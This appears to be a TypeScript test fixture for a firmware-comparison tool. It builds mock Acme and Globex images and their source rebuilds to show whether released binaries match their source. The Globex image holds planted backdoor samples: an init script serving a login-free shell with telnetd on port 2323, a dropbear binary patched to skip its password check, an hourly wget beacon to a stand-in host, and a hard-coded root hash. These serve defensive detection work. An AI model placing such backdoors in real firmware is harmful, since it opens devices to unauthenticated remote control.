/**
 * The demo's firmware images, as released and as the evaluators rebuilt them from the vendors'
 * source (docs/demo.md, "Binary equivalence"):
 *
 * - Acme's release is the image its source builds: one lab's rebuild is the same bytes, the
 *   other's differs only in the archive members' times (a build that does not set
 *   SOURCE_DATE_EPOCH), which `nospy firmware diff` classifies as harmless.
 * - Globex's released image is not what its source builds: `/usr/sbin/dropbear` carries other
 *   code, and `/etc/init.d/S99support` (a shell handed out on tcp/2323 without login) was added;
 *   every other file differs only in its time.
 */
import { buildElf } from './elf.js';
import { tarGz } from './tar.js';

/** 2026-01-20T09:00:00Z: when the evaluators' builds ran. */
const REBUILD_MTIME = 1_768_899_600;

/** dropbear's server loop as built from source, and as shipped with its password check skipped. */
const DROPBEAR_CODE = Buffer.from('554889e54883ec10e8000000004885c07405b801000000c9c3', 'hex');
const DROPBEAR_PATCHED = Buffer.from('554889e54883ec10e80000000031c0909090b801000000c9c3', 'hex');
const dropbear = (code: Buffer): Buffer =>
  buildElf(code, '\0dropbear_2019.78\0Dropbear SSH server\0/etc/dropbear/dropbear_rsa_host_key\0');

const ACME_FILES = {
  'etc/version': 'Acme Networks R1 3.2\n',
  'etc/ntp.conf': 'server 10.1.0.123\n',
};

/** Globex's source: a beacon in an init script and a hard-coded root password (docs/demo.md). */
const GLOBEX_FILES = {
  'etc/version': 'Globex Telecom Systems GX-9 2.1\n',
  'etc/init.d/S99telemetry':
    '#!/bin/sh\nwhile true; do\n  wget -q -O /dev/null http://beacon.globex-telemetry.example:53535/checkin\n  sleep 3600\ndone &\n',
  'etc/passwd': 'root:x:0:0:root:/root:/bin/sh\n',
  'etc/shadow': 'root:$1$globex$Xu0tkZzq8Sg7VJ0sQnAa01:19000:0:99999:7:::\n',
  'usr/sbin/dropbear': dropbear(DROPBEAR_CODE),
};

export const ACME_IMAGE = tarGz(ACME_FILES);
export const ACME_REBUILT = tarGz(ACME_FILES, REBUILD_MTIME);

export const GLOBEX_IMAGE = tarGz({
  ...GLOBEX_FILES,
  'usr/sbin/dropbear': dropbear(DROPBEAR_PATCHED),
  'etc/init.d/S99support': '#!/bin/sh\n# remote support channel\ntelnetd -l /bin/sh -p 2323 &\n',
});
export const GLOBEX_REBUILT = tarGz(GLOBEX_FILES, REBUILD_MTIME);

/** The source archives the evaluators hold, and the build recipes they ran. */
export const ACME_SOURCE = tarGz({ 'r1/Makefile': 'all:\n\tbuildroot-make r1_defconfig\n' });
export const GLOBEX_SOURCE = tarGz({ 'gx9/Makefile': 'all:\n\tbuildroot-make gx9_defconfig\n' });
export const RECIPE = '#!/bin/sh\nset -eu\ntar -xzf source.tar.gz\nmake -C "$1" all\n';
